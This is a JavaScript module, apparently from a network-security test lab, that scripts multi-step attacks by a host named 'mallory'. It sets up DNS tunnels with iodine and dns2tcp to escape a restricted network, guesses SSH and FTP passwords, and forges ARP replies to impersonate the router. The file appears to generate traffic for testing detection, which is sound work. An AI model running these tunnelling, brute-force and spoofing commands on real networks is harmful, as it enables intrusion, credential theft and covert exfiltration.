// Attacks that take more than one command, and the servers that they need.

import { writeFileSync } from "node:fs";
import { setTimeout as sleep } from "node:timers/promises";
import { inProject } from "../../setup/paths.js";

const IODINE = "198.51.100.33";
const DNS2TCP = "198.51.100.34";
/** Where the router's resolver asks for names below these. */
export const TUNNEL_SERVERS = [`/iodine.test/${IODINE}`, `/dns2tcp.test/${DNS2TCP}`];

const GUESSES = 14;
const FTP_GUESSES = 25;

export async function tunnelServers(lab, has) {
  if (has("iodined")) {
    const options = ["-f", "-c", "-P", "secret", "-l", IODINE, "10.97.0.1/24", "iodine.test"];
    await lab.start("outside", ({ said }) => said.includes("Listening"), "iodined", ...options);
  }
  if (has("dns2tcpd")) {
    const config = lab.file("dns2tcpd.conf");
    const home = lab.directory("dns2tcpd");
    const lines = [`listen = ${DNS2TCP}`, "port = 53", "user = nobody", `chroot = ${home}`, "domain = dns2tcp.test"];
    writeFileSync(config, [...lines, "resources = web:127.0.0.1:80", ""].join("\n"));
    lab.spawn("outside", "dns2tcpd", "-F", "-f", config);
    await sleep(500);
  }
}

/** Through the resolver, as it would get out of a network that lets nothing else out. */
export async function iodine(lab) {
  const client = lab.spawn("mallory", "iodine", "-f", "-r", "-P", "secret", "10.98.0.1", "iodine.test");
  for (let i = 0; i < 200 && !client.said.includes("Connection setup complete"); i++) await sleep(100);
  await lab.run("mallory", "ping", "-q", "-c", "60", "-i", "0.1", "-s", "300", "10.97.0.1");
  client.kill();
  await client.ended;
  if (!client.said.includes("Connection setup complete")) throw new Error(`iodine: ${client.said.slice(-300)}`);
}

export async function dns2tcp(lab) {
  const options = ["-z", "dns2tcp.test", "-r", "web", "-l", "2222", "10.98.0.1"];
  const client = lab.spawn("mallory", "dns2tcpc", ...options);
  await sleep(1500);
  await lab.run("mallory", "curl", "-s", "-m", "12", "-o", "/dev/null", "http://127.0.0.1:2222/20");
  client.kill();
  await client.ended;
}

/** A connection for each guess, as the common programs do it. */
export async function guessSsh(lab, target) {
  const options = ["-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"];
  const once = ["-o", "NumberOfPasswordPrompts=1", "-o", "PreferredAuthentications=password"];
  for (let i = 0; i < GUESSES; i++)
    await lab.run("mallory", "sshpass", "-p", `guess${i}`, "ssh", ...options, ...once, `root@${target}`, "true");
}

export async function guessFtp(lab, target) {
  const config = lab.file("vsftpd.conf");
  const empty = lab.directory("empty");
  const lines = ["listen=YES", "local_enable=YES", "anonymous_enable=NO", "background=NO", "max_login_fails=10"];
  writeFileSync(config, [...lines, `secure_chroot_dir=${empty}`, "seccomp_sandbox=NO", ""].join("\n"), { mode: 0o600 });
  const server = await lab.serve("nas", 21, "vsftpd", config);
  const script = inProject("scripts", "check", "attacks", "ftp-guesser.js");
  await lab.run("mallory", process.execPath, script, target, String(FTP_GUESSES));
  server.kill();
  await server.ended;
}

/** Tells the nas every second that the router is mallory, who is seen to be asked; the router goes on to answer for itself. */
export async function forgeArp(lab, target, router) {
  const own = (await lab.must("mallory", "cat", "/sys/class/net/eth0/address")).trim();
  const theirs = (await lab.must("nas", "cat", "/sys/class/net/eth0/address")).trim();
  const claim = ["--arp", "--arp-type", "ARP-reply", "--arp-sender-ip", router, "--arp-sender-mac", own];
  const forging = lab.run(
    "mallory",
    "nping",
    ...claim,
    "--arp-target-ip",
    target,
    "--arp-target-mac",
    theirs,
    "--dest-mac",
    theirs,
    "--rate",
    "2",
    "-c",
    "24",
    "-q",
    target,
  );
  for (let i = 0; i < 4; i++) {
    await sleep(2500);
    await lab.run("desk", "ip", "neigh", "flush", "dev", "eth0");
    await lab.run("desk", "ping", "-q", "-c", "1", "-W", "1", router);
  }
  await forging;
}
